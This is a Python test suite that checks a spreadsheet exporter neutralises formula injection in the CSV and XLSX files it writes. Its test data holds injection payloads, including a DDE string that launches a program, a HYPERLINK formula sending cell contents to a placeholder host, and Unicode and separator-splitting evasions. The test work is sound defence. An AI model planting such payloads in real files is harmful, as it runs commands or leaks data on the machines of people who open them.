"""Row 41, formula injection in files we write. Promise: "CSV: prefix ' for = + - @ TAB CR (also
full-width forms) in text cells, numbers untouched; XLSX: write as string type, URLs off". What a
sender wrote never acts on the machine of the person who opens our file.
"""

import csv
import datetime as dt
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import fastexcel
import pyarrow as pa
import pytest
import xlsxwriter
from lxml import etree

from foundation.errors import UsageError
from foundation.spreadsheet import MAX_XLSX_ROWS, write_spreadsheet
from tests.faults.conftest import Door, csv_bytes, parcel_rows, write_bytes

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
ACTIVE = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",  # full-width, which some programs fold
    "＋1",
    "－1",
    "＠x",
    "﹦1",
    "−1",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff=1",
    '"=1+1',
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
]
# Harmless at the beginning; a program with another list separator begins a cell in the middle.
SPLIT = ["shirt;=1+1", 'shirt"\n=1+1', "shirt\t@x", "a|+1"]
PLAIN = [
    "áo thun cotton",
    "http://example.invalid/",
    "mailto:a@example.invalid",
    "internal:Sheet1!A1",
    "0012",
    "9400123456789012345",
    "a=b",
    "a-1, b+2",
    "'quoted'",
    "<b>&amp;</b>",
    "_x0041_",
]


def begins_a_formula(text: str) -> bool:
    """What a spreadsheet program may take for a formula, stated apart from the code under test."""
    visible = re.sub(r'^[\s\u200b-\u200f\u2060\ufeff\u3000"]+', "", text)
    return text[:1] in "\t\r\n" or visible[:1] in tuple("=+-@＝＋－＠﹦﹢﹣﹫−")


def csv_cells(path: Path, delimiter: str = ",") -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.reader(stream, delimiter=delimiter))


def sheet(path: Path) -> etree._Element:
    with zipfile.ZipFile(path) as package:
        assert not [name for name in package.namelist() if "worksheets/_rels" in name]
        return etree.fromstring(package.read("xl/worksheets/sheet1.xml"))


def test_no_text_of_a_csv_begins_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    write_spreadsheet(pa.table({"note": ACTIVE + SPLIT + PLAIN}), path)
    texts = [row[0] for row in csv_cells(path)[1:]]
    assert not [text for text in texts if text and begins_a_formula(text)]
    assert all(text.startswith("'") for text in texts[: len(ACTIVE)])
    # Apart from the mark nothing is changed, and harmless texts not at all.
    assert [text.replace("'", "") for text in texts] == [
        text.replace("'", "") for text in ACTIVE + SPLIT + PLAIN
    ]
    assert texts[len(ACTIVE) + len(SPLIT) :] == PLAIN


def test_the_check_finds_a_formula_in_what_is_written_without_care(tmp_path: Path) -> None:
    """The negative control: the same cells by a plain writer."""
    path = tmp_path / "out.csv"
    with path.open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream).writerows([[text] for text in ACTIVE])
    assert all(begins_a_formula(row[0]) for row in csv_cells(path) if row)


@pytest.mark.parametrize("delimiter", [";", "\t", "|"])
def test_no_cell_begins_a_formula_for_a_program_with_another_separator(
    tmp_path: Path, delimiter: str
) -> None:
    path = tmp_path / "out.csv"
    write_spreadsheet(pa.table({"a": ["x"] * len(SPLIT), "note": SPLIT}), path)
    cells = [cell for row in csv_cells(path, delimiter)[1:] for cell in row[1:]]
    # Such a program splits texts; what it finds there is no formula.
    assert not [cell for cell in cells if cell and begins_a_formula(cell)]
    lines = path.read_text(encoding="utf-8-sig").splitlines()
    assert not [line for line in lines if begins_a_formula(line.lstrip('"')) and line[:1] != '"']


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    table = pa.table({"n": [-5, 7], "d": [Decimal("-1.50"), None], "f": [-0.25, 1e20]})
    write_spreadsheet(table, tmp_path / "out.csv")
    assert csv_cells(tmp_path / "out.csv")[1:] == [["-5", "-1.50", "-0.25"], ["7", "", "1e+20"]]
    write_spreadsheet(table, tmp_path / "out.xlsx")
    found = fastexcel.read_excel(tmp_path / "out.xlsx").load_sheet(0).to_polars()
    assert found.rows() == [(-5.0, -1.5, -0.25), (7.0, None, 1e20)]


def test_a_workbook_holds_texts_and_numbers_and_nothing_that_acts(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    texts = ACTIVE + SPLIT + PLAIN
    write_spreadsheet(pa.table({"note": texts, "n": range(len(texts))}), path)
    root = sheet(path)
    for name in ("f", "hyperlink", "hyperlinks", "oleObject", "controls"):
        assert root.find(f".//{MAIN}{name}") is None, name
    kinds = {cell.get("t") for cell in root.iter(f"{MAIN}c")}
    assert kinds == {"inlineStr", None}
    # A cell of texts stays one when somebody edits it: its style says so.
    styles = etree.fromstring(zipfile.ZipFile(path).read("xl/styles.xml"))
    shapes = styles.find(f"{MAIN}cellXfs")
    used = {int(cell.get("s")) for cell in root.iter(f"{MAIN}c") if cell.get("t") == "inlineStr"}
    assert all(shapes[number].get("quotePrefix") == "1" for number in used)
    found = fastexcel.read_excel(path).load_sheet(0, dtypes="string").to_arrow()
    assert found.column("note").to_pylist() == texts


def test_the_check_finds_formulas_and_links_of_an_ordinary_writer(tmp_path: Path) -> None:
    """The negative control: the same texts by a library with its usual settings."""
    path = tmp_path / "out.xlsx"
    with xlsxwriter.Workbook(str(path)) as book:
        book.add_worksheet().write_column(0, 0, ["=1+1", "http://example.invalid/"])
    with zipfile.ZipFile(path) as package:
        root = etree.fromstring(package.read("xl/worksheets/sheet1.xml"))
    assert root.find(f".//{MAIN}f") is not None
    assert root.find(f".//{MAIN}hyperlink") is not None


@pytest.mark.parametrize("ending", [".csv", ".xlsx"])
def test_headings_are_texts_too(tmp_path: Path, ending: str) -> None:
    path = tmp_path / f"out{ending}"
    write_spreadsheet(pa.table({"a": ["x"], "=b": ["y"]}), path, {"a": "=1+1", "=b": "Ghi chú"})
    if ending == ".csv":
        assert csv_cells(path)[0] == ["'=1+1", "Ghi chú"]
        return
    assert sheet(path).find(f".//{MAIN}f") is None
    header = fastexcel.read_excel(path).load_sheet(0).to_arrow().schema.names
    assert header == ["=1+1", "Ghi chú"]


def test_values_that_a_sheet_cannot_hold_become_texts(tmp_path: Path) -> None:
    """Long numbers would lose digits; dates, truth and nested values have one spelling."""
    path = tmp_path / "out.xlsx"
    table = pa.table(
        {
            "long": [123456789012345678, 5],
            "day": [dt.date(2026, 11, 9), None],
            "yes": [True, False],
            "list": [["=1"], []],
            "f": [float("nan"), float("-inf")],
            "text": ["x" * 40_000, "bad \x01 character"],
        }
    )
    write_spreadsheet(table, path)
    found = fastexcel.read_excel(path).load_sheet(0, dtypes="string").to_arrow().to_pydict()
    assert found["long"] == ["123456789012345678", "5"]
    assert found["day"] == ["2026-11-09", None]
    assert found["yes"] == ["true", "false"]
    assert found["list"] == ['["=1"]', "[]"]
    assert found["f"] == ["nan", "-inf"]
    assert found["text"][0].endswith(" [...]")
    assert len(found["text"][0]) == 32_760
    assert found["text"][1] == "bad � character"


def test_nothing_is_left_behind_when_a_table_cannot_be_written(tmp_path: Path) -> None:
    empty = pa.table({"a": pa.array([], type=pa.string())})
    write_spreadsheet(empty, tmp_path / "empty.xlsx")
    write_spreadsheet(empty, tmp_path / "empty.csv")
    assert csv_cells(tmp_path / "empty.csv") == [["a"]]
    large = pa.table({"a": pa.nulls(MAX_XLSX_ROWS + 1, type=pa.int8())})
    for table, name in ((large, "large.xlsx"), (pa.table({}), "none.csv"), (empty, "x.pdf")):
        with pytest.raises(UsageError):
            write_spreadsheet(table, tmp_path / name)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["empty.csv", "empty.xlsx"]


@pytest.mark.parametrize("ending", [".csv", ".xlsx"])
def test_what_we_export_can_be_delivered_again(door: Door, ending: str) -> None:
    """A sender corrects our export and sends it back: texts, codes and numbers are unchanged."""
    rows = parcel_rows(5)
    rows[0]["item_description"] = "=cmd|' /C calc'!A0"
    (first,) = door.deliver(write_bytes(door.folder / "parcel_manifest.csv", csv_bytes(rows)))
    table = pa.table({name: [str(row[name]) for row in rows] for name in rows[0]})
    path = door.folder / f"parcel_manifest_again{ending}"
    write_spreadsheet(table, path)
    (second,) = door.deliver(path)
    assert (first.accepted, second.accepted) == (5, 5)
    raw = door.rows()
    by_file = [[row for row in raw if row["_src_sha"] == item.sha256] for item in (first, second)]
    for before, after in zip(*by_file, strict=True):
        if ending == ".csv" and before["item_description"].startswith("="):
            assert after["item_description"] == "'" + before["item_description"]
            continue
        lineage = {"_src_sha"}
        assert {name: before[name] for name in before.keys() - lineage} == {
            name: after[name] for name in after.keys() - lineage
        }
